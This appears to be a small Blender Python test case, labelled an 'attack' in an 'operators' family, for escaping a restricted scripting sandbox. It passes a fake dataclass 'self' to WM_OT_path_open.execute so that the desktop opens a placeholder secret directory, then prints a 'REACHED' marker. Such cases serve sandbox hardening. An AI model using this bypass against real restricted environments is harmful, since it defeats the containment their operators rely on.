# attack: wm.path_open starts a program of the desktop for a file: its execute from bpy.types, self an instance made by dataclass
# family: operators
import bpy
from dataclasses import dataclass


@dataclass
class Fake:
    filepath: str = "$SECRET_DIR"

    def report(self, kind, words):
        print(kind, words)


run = bpy.types.WM_OT_path_open.execute
print("REACHED", run)
run(Fake(), bpy.context)
